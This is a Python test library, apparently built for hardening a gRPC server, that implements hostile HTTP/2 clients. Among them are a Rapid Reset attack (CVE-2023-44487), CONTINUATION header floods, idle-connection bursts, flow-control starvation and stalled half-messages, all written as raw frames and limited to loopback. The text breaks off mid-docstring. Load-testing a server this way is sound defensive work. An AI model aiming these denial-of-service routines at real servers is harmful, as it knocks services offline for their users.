#!/usr/bin/python3
"""Hostile HTTP/2 clients for hardening tests of a gRPC server, loopback only.

A library (imported by hardening_test.py) and a command line that prints one
JSON report:

  h2_attacks.py silent       --port N [--count 100] [--hold 5]
  h2_attacks.py rapid-reset  --port N [--connections 4] [--seconds 10]
  h2_attacks.py header-flood --port N [--bytes 1048576] [--connections 1]
                             [--streams 1] [--before-ack]
  h2_attacks.py list-no-read --port N [--connections 1] [--streams 1000]
                             [--hold 10]
  h2_attacks.py huge-message --port N [--connections 3] [--streams 4]
                             [--seconds 8]
  h2_attacks.py never-ack-settings --port N [--streams 1000]
                             [--bytes 65536] [--hold 5]
  h2_attacks.py half-message --port N [--connections 100] [--streams 100]
                             [--hold 10]
  h2_attacks.py connection-wave --port N [--count 5000] [--hold 3]

silent        TCP connections that never send a byte, held, then closed;
              how many connected and which ones the server closed, when.
rapid-reset   HEADERS for GetFeature and at once RST_STREAM(CANCEL), in a
              loop on every connection (CVE-2023-44487), while answering
              the server's SETTINGS and PINGs so the connections stay up.
header-flood  calls whose HEADERS is followed by CONTINUATION frames
              carrying about --bytes of `x-flood-N` headers; what the
              server answered to each. --before-ack floods before
              acknowledging the server's SETTINGS, which (gRPC 1.51)
              are not in force until then.
list-no-read  ListFeatures over the whole world on connections that
              never read (INITIAL_WINDOW_SIZE 0, no WINDOW_UPDATE).
huge-message  GetFeature calls declaring a 0xFFFFFFF0-byte message, then
              zeros as fast as flow control allows.
never-ack-settings
              calls with --bytes of headers each on one connection that
              never acknowledges the server's SETTINGS: held, then each
              sends its request; which ones the server answered.
half-message  GetFeature calls that send 11 of a message's 100 declared
              bytes (prefix included) and stall.
connection-wave
              connections that complete the HTTP/2 handshake and idle.

Frames are written as raw bytes and header blocks go through hpack (the
header layer of python3-h2), not through h2's connection state machine:
that machine refuses to misbehave, and at tens of microseconds per stream
it could not outrun a C++ server. The same small client also makes the
well-behaved calls the tests need (GetFeature, a RouteChat held open), so
there is one HTTP/2 implementation here, not two.
"""

import argparse
import collections
import errno
import ipaddress
import json
import resource
import select
import socket
import struct
import sys
import time

import hpack
from h2.errors import ErrorCodes

GET_FEATURE = "/routeguide.RouteGuide/GetFeature"
LIST_FEATURES = "/routeguide.RouteGuide/ListFeatures"
ROUTE_CHAT = "/routeguide.RouteGuide/RouteChat"

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# The SETTINGS_MAX_FRAME_SIZE every peer must accept (RFC 9113 §4.2).
MAX_FRAME = 16384
MAX_WINDOW = 2 ** 31 - 1
# Every flow-control window starts here until SETTINGS or WINDOW_UPDATE
# say otherwise (RFC 9113 §6.9.2).
DEFAULT_WINDOW = 65535
MAX_STREAM_ID = 2 ** 31 - 1

# Frame types and flags (RFC 9113 §6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9
FRAME_NAMES = {DATA: "DATA", HEADERS: "HEADERS", 0x2: "PRIORITY",
               RST_STREAM: "RST_STREAM", SETTINGS: "SETTINGS",
               0x5: "PUSH_PROMISE", PING: "PING", GOAWAY: "GOAWAY",
               WINDOW_UPDATE: "WINDOW_UPDATE", CONTINUATION: "CONTINUATION"}
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY = 0x20
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
SETTINGS_NAMES = {0x1: "HEADER_TABLE_SIZE", 0x2: "ENABLE_PUSH",
                  SETTINGS_MAX_CONCURRENT_STREAMS: "MAX_CONCURRENT_STREAMS",
                  SETTINGS_INITIAL_WINDOW_SIZE: "INITIAL_WINDOW_SIZE",
                  0x5: "MAX_FRAME_SIZE", 0x6: "MAX_HEADER_LIST_SIZE"}

# Where a call asks for a feature: the tutorial database's first one.
KNOWN_FEATURE = (407838351, -746143763)
# ListFeatures' rectangle over the whole world: every stored feature.
WORLD = ((-900000000, -1800000000), (900000000, 1800000000))


def error_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return "0x%x" % code


def check_loopback(host):
    """These are attacks: refuse to aim them anywhere but this machine."""
    try:
        address = ipaddress.ip_address(
            socket.getaddrinfo(host, None)[0][4][0])
    except (OSError, ValueError) as error:
        raise ValueError("cannot resolve %r: %s" % (host, error))
    if not address.is_loopback:
        raise ValueError("%s is not a loopback address" % host)


def raise_nofile_limit(needed):
    """Soft RLIMIT_NOFILE up to the hard limit; fails if that is too low."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY and hard < needed:
        raise RuntimeError(
            "need %d file descriptors, the hard limit is %d (ulimit -Hn)"
            % (needed, hard))
    if soft != hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


# --- Encoding ---------------------------------------------------------------


def frame(kind, flags, stream_id, payload=b""):
    return (len(payload).to_bytes(3, "big")
            + struct.pack(">BBI", kind, flags, stream_id) + payload)


def header_frames(stream_id, block, end_stream=False):
    """HEADERS, then as many CONTINUATION frames as the block needs."""
    chunks = [block[i:i + MAX_FRAME]
              for i in range(0, len(block), MAX_FRAME)] or [b""]
    frames = []
    for i, chunk in enumerate(chunks):
        flags = END_HEADERS if i == len(chunks) - 1 else 0
        if i == 0:
            frames.append(frame(HEADERS, flags | (END_STREAM if end_stream
                                                  else 0), stream_id, chunk))
        else:
            frames.append(frame(CONTINUATION, flags, stream_id, chunk))
    return b"".join(frames)


def encode_headers(headers):
    """An HPACK block that leaves the server's dynamic table alone.

    Static-table matches and never-indexed literals only, without Huffman:
    the same bytes can be sent on any stream of any connection, and their
    length is the headers' length, so a flood's size is what it says.
    """
    return hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple(name, value)
         for name, value in headers], huffman=False)


def grpc_request_headers(authority, path, extra=()):
    return [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", authority),
            ("content-type", "application/grpc"), ("te", "trailers")
            ] + list(extra)


def header_list_size(headers):
    """The size SETTINGS_MAX_HEADER_LIST_SIZE limits (RFC 7541 §4.1)."""
    return sum(len(name) + len(value) + 32 for name, value in headers)


def padding_headers(size, value_bytes=1000):
    """`x-flood-N: vvv...` headers whose list size is `size` (± 40)."""
    headers = []
    left = size
    while left > 64:
        name = "x-flood-%d" % len(headers)
        value = "v" * max(1, min(value_bytes, left - len(name) - 32))
        headers.append((name, value))
        left -= len(name) + len(value) + 32
    return headers


def grpc_message(payload):
    """gRPC's length-prefixed message, uncompressed."""
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def split_grpc_messages(data):
    messages = []
    while len(data) >= 5:
        length = struct.unpack(">I", data[1:5])[0]
        if len(data) < 5 + length:
            break
        messages.append(bytes(data[5:5 + length]))
        data = data[5 + length:]
    return messages


# Protocol buffers by hand: Point{1: latitude, 2: longitude},
# Feature{1: name, 2: location}, RouteNote{1: location, 2: message}.

def _varint(value):
    value &= (1 << 64) - 1  # a negative int32 is ten bytes on the wire
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if not value:
            out.append(byte)
            return bytes(out)
        out.append(byte | 0x80)


def _int32(value):
    return value - (1 << 64) if value >= 1 << 63 else value


def _fields(data):
    """Field number -> list of values (ints and bytes)."""
    fields = collections.defaultdict(list)
    i = 0
    while i < len(data):
        key, i = _read_varint(data, i)
        number, wire_type = key >> 3, key & 7
        if wire_type == 0:
            value, i = _read_varint(data, i)
        elif wire_type == 2:
            length, i = _read_varint(data, i)
            value, i = bytes(data[i:i + length]), i + length
        else:
            raise ValueError("wire type %d in a RouteGuide message"
                             % wire_type)
        fields[number].append(value)
    return fields


def _read_varint(data, i):
    value = shift = 0
    while True:
        byte = data[i]
        i += 1
        value |= (byte & 0x7F) << shift
        shift += 7
        if not byte & 0x80:
            return value, i


def encode_point(latitude, longitude):
    return b"\x08" + _varint(latitude) + b"\x10" + _varint(longitude)


def decode_point(data):
    fields = _fields(data)
    return (_int32(fields.get(1, [0])[-1]), _int32(fields.get(2, [0])[-1]))


def encode_rectangle(lo, hi):
    """Rectangle{1: lo Point, 2: hi Point}"""
    lo, hi = encode_point(*lo), encode_point(*hi)
    return (b"\x0a" + _varint(len(lo)) + lo
            + b"\x12" + _varint(len(hi)) + hi)


def encode_route_note(latitude, longitude, message):
    point = encode_point(latitude, longitude)
    text = message.encode()
    return (b"\x0a" + _varint(len(point)) + point
            + b"\x12" + _varint(len(text)) + text)


def decode_route_note(data):
    """(latitude, longitude, message)"""
    fields = _fields(data)
    return decode_point(fields.get(1, [b""])[-1]) + (
        fields.get(2, [b""])[-1].decode(),)


def decode_feature(data):
    """(name, latitude, longitude)"""
    fields = _fields(data)
    return (fields.get(1, [b""])[-1].decode(),) + decode_point(
        fields.get(2, [b""])[-1])


# --- A client connection ----------------------------------------------------


class Stream:
    """What the server sent on one stream we opened."""

    def __init__(self, send_window=DEFAULT_WINDOW):
        self.header_blocks = []  # decoded: [[(name, value), ...], ...]
        self.data = bytearray()
        self.reset = None  # the server's RST_STREAM error code
        self.ended = False  # END_STREAM seen
        # DATA bytes the server lets us send on this stream now.
        self.send_window = send_window

    @property
    def done(self):
        return self.ended or self.reset is not None

    @property
    def grpc_status(self):
        """(grpc-status, grpc-message) of the first header block that has
        one (trailers, or a trailers-only response), else None."""
        for block in self.header_blocks:
            fields = dict(block)
            if "grpc-status" in fields:
                return fields["grpc-status"], fields.get("grpc-message", "")
        return None

    def messages(self):
        return split_grpc_messages(self.data)


class Connection:
    """One HTTP/2 client connection on a non-blocking socket.

    It sends the preface and SETTINGS at once, writes whatever frames it
    is given, and while reading answers what a peer must answer (SETTINGS
    and PING acknowledgements, connection flow control), so the server
    keeps the connection up however odd the rest of the traffic is.

    Two ways to misbehave at the peer's expense: `window` 0 is a client
    that never reads (INITIAL_WINDOW_SIZE 0 and never a WINDOW_UPDATE, so
    the server can send no DATA at all), and `ack_settings` False one that
    never acknowledges the server's SETTINGS (gRPC 1.51 applies its own,
    e.g. MAX_CONCURRENT_STREAMS, only once acknowledged).
    """

    def __init__(self, host, port, timeout=5.0, decode=True,
                 window=MAX_WINDOW, ack_settings=True):
        self.authority = "%s:%d" % (host, port)
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        # With decode off (an attack) header blocks are skipped unread:
        # only control frames matter.
        self.decode = decode
        self.decoder = hpack.Decoder()
        self.inbuf = bytearray()
        self.outbuf = bytearray()
        self.streams = {}
        self.next_stream_id = 1
        self.goaway = None  # (error code, last stream id, debug text)
        self.closed = None  # why the connection ended, once it has
        self.write_error = None  # why sending failed, if it did
        self.unsent = 0  # bytes dropped when sending failed
        self.frames_received = collections.Counter()
        self.window = window
        self.ack_settings = ack_settings
        self.acked_settings = False  # we have acknowledged the server's
        # The server's SETTINGS by name, once it has sent them.
        self.peer_settings = None
        self.settings_acked_by_server = False  # the server acked ours
        # DATA bytes the server lets us send on the connection now (streams
        # have their own, in Stream).
        self.send_window = DEFAULT_WINDOW
        self._peer_initial_window = DEFAULT_WINDOW
        self._ping_acks = set()
        self._pings_sent = 0
        self._block = None  # [stream id, end_stream, fragments]
        self._window_used = 0
        # By default windows as large as HTTP/2 allows, so the server never
        # waits on this client for flow control. The connection's window is
        # not set by SETTINGS: only a WINDOW_UPDATE opens it past 65535.
        self.send(PREFACE
                  + frame(SETTINGS, 0, 0, struct.pack(
                      ">HI", SETTINGS_INITIAL_WINDOW_SIZE, window))
                  + (frame(WINDOW_UPDATE, 0, 0,
                           struct.pack(">I", window - DEFAULT_WINDOW))
                     if window > DEFAULT_WINDOW else b""))

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    def close(self):
        if self.sock is not None:
            self.sock.close()
            self.sock = None
        if self.closed is None:
            self.closed = "closed by the client"

    @property
    def usable(self):
        return (self.closed is None and self.goaway is None
                and self.write_error is None)

    # Writing.

    def send(self, data):
        if self.write_error is None:
            self.outbuf += data
            self._flush()

    def _flush(self):
        while self.outbuf and self.closed is None:
            try:
                sent = self.sock.send(self.outbuf)
            except (BlockingIOError, InterruptedError):
                return
            except OSError as error:
                # Reading goes on until the server's end shows there: it
                # may have answered before it closed (e.g. a status that
                # refuses the call still being sent).
                self.write_error = "send: %s" % error
                self.unsent += len(self.outbuf)
                self.outbuf.clear()
                return
            del self.outbuf[:sent]

    def open_stream(self, block, end_stream=False, track=True):
        """Sends a header block on a new stream; returns its id."""
        stream_id = self.next_stream_id
        self.next_stream_id += 2
        if track:
            self.streams[stream_id] = Stream(self._peer_initial_window)
        self.send(header_frames(stream_id, block, end_stream))
        return stream_id

    def sendable(self, stream_id):
        """DATA bytes flow control lets us send on the stream now (one
        frame's worth at most)."""
        return max(0, min(self.send_window,
                          self.streams[stream_id].send_window, MAX_FRAME))

    def send_data(self, stream_id, payload, end_stream=False):
        """One DATA frame, charged to the flow-control windows: the caller
        keeps it within sendable(), or the server may end the connection
        with FLOW_CONTROL_ERROR."""
        self.send_window -= len(payload)
        self.streams[stream_id].send_window -= len(payload)
        self.send(frame(DATA, END_STREAM if end_stream else 0, stream_id,
                        payload))

    def send_message(self, stream_id, payload, end_stream=False):
        body = grpc_message(payload)
        assert len(body) <= MAX_FRAME, "one DATA frame per message here"
        self.send(frame(DATA, END_STREAM if end_stream else 0, stream_id,
                        body))

    def settle(self, timeout=5.0):
        """Waits for the server's SETTINGS and acknowledges them, so what is
        sent next comes after the ACK: gRPC applies its own SETTINGS (e.g.
        SETTINGS_MAX_HEADER_LIST_SIZE) only once the client has acked them.
        """
        if not self.wait(lambda: self.acked_settings, timeout):
            raise OSError("no SETTINGS from the server within %.1f s (%s)"
                          % (timeout, self.closed or "still open"))

    def ping(self, timeout=5.0):
        """A PING round trip: True when the server answered it, so the
        connection is known alive after everything sent before it."""
        payload = self.send_ping()
        return self.wait(lambda: self.pinged(payload), timeout)

    def send_ping(self):
        """Sends a PING; pinged(the payload returned) tells when answered."""
        self._pings_sent += 1
        payload = struct.pack(">Q", self._pings_sent)
        self.send(frame(PING, 0, 0, payload))
        return payload

    def pinged(self, payload):
        return payload in self._ping_acks

    # Reading.

    def pump(self, timeout=0.0):
        """Waits up to `timeout` s for the socket, then reads, answers and
        writes what it can without blocking. False once the connection is
        gone."""
        if self.closed is not None:
            return False
        events = select.POLLIN | (select.POLLOUT if self.outbuf else 0)
        poller = select.poll()
        poller.register(self.sock, events)
        if poller.poll(max(0.0, timeout) * 1000):
            self._read()
            self._flush()
        return self.closed is None

    def wait(self, predicate, timeout):
        """Pumps until predicate() holds, the connection ends or `timeout`
        s pass; returns predicate()."""
        deadline = time.monotonic() + timeout
        while not predicate():
            left = deadline - time.monotonic()
            if left <= 0 or not self.pump(min(left, 0.05)):
                break
        return predicate()

    def _lost(self, why):
        if self.closed is None:
            self.closed = why

    def _read(self):
        while self.closed is None:
            try:
                data = self.sock.recv(1 << 18)
            except (BlockingIOError, InterruptedError):
                break
            except OSError as error:  # ECONNRESET and the like
                self._lost("recv: %s" % error)
                break
            if not data:
                self._lost("closed by the server")
                break
            self.inbuf += data
        self._parse()

    def _parse(self):
        buf = self.inbuf
        start = 0
        while len(buf) - start >= 9:
            length = int.from_bytes(buf[start:start + 3], "big")
            if len(buf) - start < 9 + length:
                break
            kind, flags, stream_id = struct.unpack(
                ">BBI", buf[start + 3:start + 9])
            payload = bytes(buf[start + 9:start + 9 + length])
            start += 9 + length
            self._on_frame(kind, flags, stream_id & MAX_STREAM_ID, payload)
        del buf[:start]

    def _on_frame(self, kind, flags, stream_id, payload):
        self.frames_received[FRAME_NAMES.get(kind, "0x%x" % kind)] += 1
        stream = self.streams.get(stream_id)
        if kind == SETTINGS:
            if flags & ACK:
                self.settings_acked_by_server = True
            else:
                self._on_settings(payload)
                if self.ack_settings:
                    self.send(frame(SETTINGS, ACK, 0))
                    self.acked_settings = True
        elif kind == PING:
            if not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
            else:
                self._ping_acks.add(payload)
        elif kind == GOAWAY:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = (code, last & MAX_STREAM_ID,
                           payload[8:].decode("utf-8", "replace"))
        elif kind == RST_STREAM:
            if stream is not None:
                stream.reset = struct.unpack(">I", payload[:4])[0]
        elif kind == WINDOW_UPDATE:
            increment = struct.unpack(">I", payload[:4])[0] & MAX_WINDOW
            if stream_id == 0:
                self.send_window += increment
            elif stream is not None:
                stream.send_window += increment
        elif kind == DATA:
            # Padding counts against flow control too: use the whole length.
            self._window_used += len(payload)
            # A client with window 0 does not read: it never opens a window.
            if self.window and self._window_used > MAX_WINDOW // 2:
                self.send(frame(WINDOW_UPDATE, 0, 0,
                                struct.pack(">I", self._window_used)))
                self._window_used = 0
            if stream is not None:
                stream.data += _unpad(flags, payload)
                stream.ended |= bool(flags & END_STREAM)
        elif kind == HEADERS:
            fragment = _unpad(flags, payload)
            if flags & PRIORITY:
                fragment = fragment[5:]
            self._block = [stream_id, bool(flags & END_STREAM), [fragment]]
            if flags & END_HEADERS:
                self._end_block()
        elif kind == CONTINUATION and self._block is not None:
            self._block[2].append(payload)
            if flags & END_HEADERS:
                self._end_block()

    def _on_settings(self, payload):
        settings = dict(struct.unpack(">HI", payload[i:i + 6])
                        for i in range(0, len(payload) - 5, 6))
        if SETTINGS_INITIAL_WINDOW_SIZE in settings:
            # A change moves every open stream's window (RFC 9113 §6.9.2).
            change = (settings[SETTINGS_INITIAL_WINDOW_SIZE]
                      - self._peer_initial_window)
            self._peer_initial_window += change
            for stream in self.streams.values():
                stream.send_window += change
        self.peer_settings = dict(self.peer_settings or {}, **{
            SETTINGS_NAMES.get(key, "0x%x" % key): value
            for key, value in settings.items()})

    def _end_block(self):
        stream_id, end_stream, fragments = self._block
        self._block = None
        # Every block is decoded when decoding is on, whoever it is for:
        # the server's HPACK dynamic table must be followed in order.
        if not self.decode:
            return
        headers = self.decoder.decode(b"".join(fragments))
        stream = self.streams.get(stream_id)
        if stream is not None:
            stream.header_blocks.append(headers)
            stream.ended |= end_stream


def _unpad(flags, payload):
    if flags & PADDED:
        return payload[1:len(payload) - payload[0]]
    return payload


class Fleet:
    """Many connections pumped together, one poll() for all, so that one
    thread can hold thousands of them open (answering SETTINGS and PINGs)
    and tell what the server did to each."""

    def __init__(self):
        self.conns = []
        self._poller = select.poll()
        self._polled = {}  # fd -> connection, while it is open

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    def add(self, conn):
        self.conns.append(conn)
        self._polled[conn.sock.fileno()] = conn
        self._poller.register(conn.sock, select.POLLIN)
        return conn

    def close(self):
        for conn in self.conns:
            conn.close()
        self._polled.clear()

    def pump(self, timeout=0.0):
        """Writes what each connection has queued, then waits up to
        `timeout` s for the sockets and reads (and answers) what came."""
        for conn in self._polled.values():
            if conn.outbuf:
                conn._flush()
        for fd, _ in self._poller.poll(max(0.0, timeout) * 1000):
            conn = self._polled.get(fd)
            if conn is None:
                continue
            conn._read()
            conn._flush()
            if conn.closed is not None:
                self._poller.unregister(fd)
                del self._polled[fd]

    def wait(self, predicate, timeout):
        """Pumps until predicate() holds or `timeout` s pass; returns it."""
        deadline = time.monotonic() + timeout
        while not predicate():
            left = deadline - time.monotonic()
            if left <= 0:
                break
            self.pump(min(left, 0.05))
        return predicate()

    def hold(self, seconds):
        self.wait(lambda: False, seconds)

    def settled(self, timeout):
        """Waits until every connection acknowledged the server's SETTINGS
        and had its own acknowledged (or ended); returns how many did."""
        def done(conn):
            return conn.closed is not None or (
                conn.acked_settings and conn.settings_acked_by_server)
        self.wait(lambda: all(done(c) for c in self.conns), timeout)
        return sum(c.closed is None and c.acked_settings
                   and c.settings_acked_by_server for c in self.conns)

    def sync(self, timeout):
        """Sends everything queued and a PING on every open connection;
        returns how many answered within `timeout` s: those the server has
        read everything sent so far on (gRPC handles frames in order)."""
        self.wait(lambda: not any(c.outbuf for c in self._polled.values()),
                  timeout)
        pings = [(conn, conn.send_ping()) for conn in self.conns
                 if conn.usable]
        self.wait(lambda: all(conn.pinged(p) or conn.closed is not None
                              for conn, p in pings), timeout)
        return sum(conn.pinged(p) for conn, p in pings)

    def report(self):
        """What the server did to the connections and their streams."""
        outcomes = collections.Counter()
        for conn in self.conns:
            outcomes.update(stream_outcome(s) for s in conn.streams.values())
        return {
            "connections": len(self.conns),
            "streams": sum(len(c.streams) for c in self.conns),
            "outcomes": dict(outcomes),
            "goaways": dict(collections.Counter(
                "%s %s" % (error_name(c.goaway[0]), c.goaway[2])
                for c in self.conns if c.goaway is not None)),
            "closed_by_server": sum(
                c.closed is not None and c.closed != "closed by the client"
                for c in self.conns),
            "data_bytes_received": sum(len(s.data) for c in self.conns
                                       for s in c.streams.values()),
            "frames_received": dict(sum(
                (c.frames_received for c in self.conns),
                collections.Counter())),
        }


def stream_outcome(stream):
    """One stream's fate in a word or three, for tallies."""
    status = stream.grpc_status
    if status is not None:
        if status[0] == "0":
            return "status 0"
        # Messages name sizes and limits, so there are few distinct ones.
        return "status %s %s" % (status[0], status[1][:80])
    if stream.reset is not None:
        return "RST_STREAM %s" % error_name(stream.reset)
    if stream.ended:
        return "ended without a status"
    if stream.header_blocks:
        return "response headers only"
    return "open, no answer"


# --- Calls ------------------------------------------------------------------


def call(conn, block, request, timeout):
    """A unary call with a ready header block; returns (verdict, detail,
    stream). verdict: "ok", "refused" (RST_STREAM, a non-OK status, or the
    connection ended) or "no answer" within `timeout` s."""
    stream_id = conn.open_stream(block)
    stream = conn.streams[stream_id]
    conn.send_message(stream_id, request, end_stream=True)
    conn.wait(lambda: stream.done, timeout)
    # A status first: a server may reset a stream it has answered in full
    # (RST_STREAM NO_ERROR: stop sending), which is no refusal.
    status = stream.grpc_status
    if status is not None:
        if status[0] == "0":
            return "ok", "status 0", stream
        return "refused", "status %s (%s)" % status, stream
    if stream.reset is not None:
        return "refused", "RST_STREAM %s" % error_name(stream.reset), stream
    if conn.goaway is not None:
        return "refused", "GOAWAY %s %s" % (error_name(conn.goaway[0]),
                                            conn.goaway[2]), stream
    if conn.closed is not None or conn.write_error is not None:
        return "refused", conn.closed or conn.write_error, stream
    return "no answer", "nothing within %.1f s" % timeout, stream


def get_feature(conn, point=KNOWN_FEATURE, extra_headers=(), timeout=5.0):
    """GetFeature; (verdict, detail, feature name or None)."""
    block = encode_headers(grpc_request_headers(conn.authority, GET_FEATURE,
                                                extra_headers))
    verdict, detail, stream = call(conn, block, encode_point(*point),
                                   timeout)
    messages = stream.messages()
    name = decode_feature(messages[0])[0] if messages else None
    return verdict, detail, name


class RouteChat:
    """A RouteChat call held open on a connection of its own: notes go out
    one at a time, replies collect as they come."""

    def __init__(self, host, port, timeout=5.0):
        self.conn = Connection(host, port, timeout=timeout)
        try:
            self.conn.settle(timeout)
            self.stream_id = self.conn.open_stream(encode_headers(
                grpc_request_headers(self.conn.authority, ROUTE_CHAT)))
        except BaseException:
            self.conn.close()
            raise
        self.stream = self.conn.streams[self.stream_id]

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.conn.close()

    def send(self, latitude, longitude, message):
        self.conn.send_message(self.stream_id, encode_route_note(
            latitude, longitude, message))

    def replies(self):
        """[(latitude, longitude, message), ...] so far."""
        return [decode_route_note(m) for m in self.stream.messages()]

    def wait_replies(self, count, timeout):
        self.conn.wait(lambda: (len(self.stream.messages()) >= count
                                or self.trouble() is not None), timeout)
        return self.replies()

    def trouble(self):
        """Why the call can no longer work, or None."""
        if self.stream.reset is not None:
            return "RST_STREAM %s" % error_name(self.stream.reset)
        if self.stream.ended:
            return "the server ended the call: %s" % (self.stream.grpc_status,)
        if self.conn.goaway is not None:
            return "GOAWAY %s" % error_name(self.conn.goaway[0])
        return self.conn.closed or self.conn.write_error


# --- Attacks ----------------------------------------------------------------


class SilentBurst:
    """TCP connections that never send a byte.

    "Connected" means the kernel finished the TCP handshake, which it does
    for a listening socket whether or not the server ever accepts. Closes
    by the server show as EOF or a reset on a non-blocking read.
    """

    def __init__(self, host, port, count, connect_timeout=10.0):
        raise_nofile_limit(count + 256)
        self.started = time.monotonic()
        self.connect_failures = collections.Counter()
        self.open = {}  # fd -> (socket, monotonic time connected)
        self.close_delays = []  # seconds from connect to the server's close
        self.bytes_received = 0
        self._poller = select.poll()
        pending = {}
        try:
            for _ in range(count):
                sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                sock.setblocking(False)
                code = sock.connect_ex((host, port))
                if code in (0, errno.EINPROGRESS):
                    pending[sock.fileno()] = sock
                    self._poller.register(sock, select.POLLOUT)
                else:
                    self.connect_failures[errno.errorcode.get(code)] += 1
                    sock.close()
            deadline = time.monotonic() + connect_timeout
            while pending and time.monotonic() < deadline:
                left = deadline - time.monotonic()
                for fd, _ in self._poller.poll(max(1, int(left * 1000))):
                    sock = pending.pop(fd)
                    code = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                    if code:
                        self._poller.unregister(fd)
                        self.connect_failures[errno.errorcode.get(code)] += 1
                        sock.close()
                    else:
                        self._poller.modify(fd, select.POLLIN)
                        self.open[fd] = (sock, time.monotonic())
            for fd, sock in pending.items():
                self._poller.unregister(fd)
                self.connect_failures["timed out"] += 1
                sock.close()
            self.connected = len(self.open)
            self.connect_seconds = time.monotonic() - self.started
        except BaseException:
            for sock in pending.values():
                sock.close()
            self.close()
            raise

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()

    def watch(self, seconds):
        """Holds the connections for `seconds`, noting which the server
        closes (anything it sends, e.g. its SETTINGS, is read and dropped)."""
        deadline = time.monotonic() + seconds
        while self.open:
            left = deadline - time.monotonic()
            if left <= 0:
                break
            for fd, _ in self._poller.poll(max(1, int(left * 1000))):
                if fd in self.open:
                    self._drain(fd)

    def _drain(self, fd):
        sock, connected_at = self.open[fd]
        while True:
            try:
                data = sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                return
            except OSError:  # ECONNRESET: closed with unread data
                data = b""
            if not data:
                self.close_delays.append(time.monotonic() - connected_at)
                self._poller.unregister(fd)
                del self.open[fd]
                sock.close()
                return
            self.bytes_received += len(data)

    def close(self):
        for sock, _ in self.open.values():
            sock.close()
        self.open.clear()

    def report(self):
        delays = sorted(self.close_delays)
        return {
            "connected": self.connected,
            "connect_failures": dict(self.connect_failures),
            "connect_seconds": round(self.connect_seconds, 3),
            "closed_by_server": len(delays),
            "close_after_seconds": {
                "min": round(delays[0], 3),
                "median": round(delays[len(delays) // 2], 3),
                "max": round(delays[-1], 3),
            } if delays else None,
            "bytes_received": self.bytes_received,
        }


def silent(host, port, count, hold_seconds, connect_timeout=10.0):
    with SilentBurst(host, port, count, connect_timeout) as burst:
        burst.watch(hold_seconds)
        return burst.report()


def rapid_reset(host, port, connections=4, seconds=10.0, batch=64):
    """HEADERS + RST_STREAM(CANCEL) pairs as fast as the sockets take them,
    on `connections` connections, for `seconds` s."""
    authority = "%s:%d" % (host, port)
    block = encode_headers(grpc_request_headers(authority, GET_FEATURE))
    cancel = struct.pack(">I", ErrorCodes.CANCEL)
    pair_bytes = len(frame(HEADERS, 0, 1, block) + frame(RST_STREAM, 0, 1,
                                                         cancel))
    report = {"connections": connections, "reconnects": 0,
              "connect_failures": 0, "streams_opened": 0,
              "goaways": collections.Counter(),
              "closes": collections.Counter(),
              "frames_received": collections.Counter()}
    conns = [None] * connections

    def retire(conn):
        # Pairs still in the buffer, or dropped by a failed send, never
        # reached the server (a pair cut in two counts as not sent).
        report["streams_opened"] -= -(-(len(conn.outbuf) + conn.unsent)
                                      // pair_bytes)
        if conn.goaway is not None:
            report["goaways"][error_name(conn.goaway[0])] += 1
        if conn.closed is not None or conn.write_error is not None:
            report["closes"][conn.closed or conn.write_error] += 1
        report["frames_received"].update(conn.frames_received)
        conn.close()

    started = time.monotonic()
    deadline = started + seconds
    try:
        while time.monotonic() < deadline:
            for i, conn in enumerate(conns):
                if conn is not None and (
                        not conn.usable
                        or conn.next_stream_id + 2 * batch > MAX_STREAM_ID):
                    retire(conn)
                    conns[i] = conn = None
                    report["reconnects"] += 1
                if conn is None:
                    try:
                        conns[i] = conn = Connection(host, port, timeout=1.0,
                                                     decode=False)
                    except OSError:
                        report["connect_failures"] += 1
                        time.sleep(0.01)
                        continue
                conn.pump()
                # Keep a little queued, not more: what the kernel does not
                # take now would not be an attack, only memory here.
                if len(conn.outbuf) < 16 * pair_bytes:
                    first = conn.next_stream_id
                    conn.next_stream_id += 2 * batch
                    conn.send(b"".join(
                        frame(HEADERS, END_HEADERS, sid, block)
                        + frame(RST_STREAM, 0, sid, cancel)
                        for sid in range(first, first + 2 * batch, 2)))
                    report["streams_opened"] += batch
            live = [c for c in conns if c is not None and c.closed is None]
            if live and all(len(c.outbuf) >= 16 * pair_bytes for c in live):
                # Every socket is full: wait for one to drain (or to read).
                poller = select.poll()
                for c in live:
                    poller.register(c.sock, select.POLLIN | select.POLLOUT)
                poller.poll(10)
    finally:
        for conn in conns:
            if conn is not None:
                retire(conn)
    elapsed = time.monotonic() - started
    report["resets_sent"] = report["streams_opened"]
    report["seconds"] = round(elapsed, 3)
    report["streams_per_second"] = round(report["streams_opened"] / elapsed)
    report["closes"] = dict(report["closes"])
    report["goaways"] = dict(report["goaways"])
    report["frames_received"] = dict(report["frames_received"])
    return report


def header_flood(host, port, total_bytes=1 << 20, connections=1, streams=1,
                 ack_first=True, timeout=10.0):
    """`streams` GetFeature calls, one after another, on each of
    `connections` connections (a fresh one replaces a connection the server
    ended), each with about `total_bytes` of headers.

    ack_first: acknowledge the server's SETTINGS before the first flood of
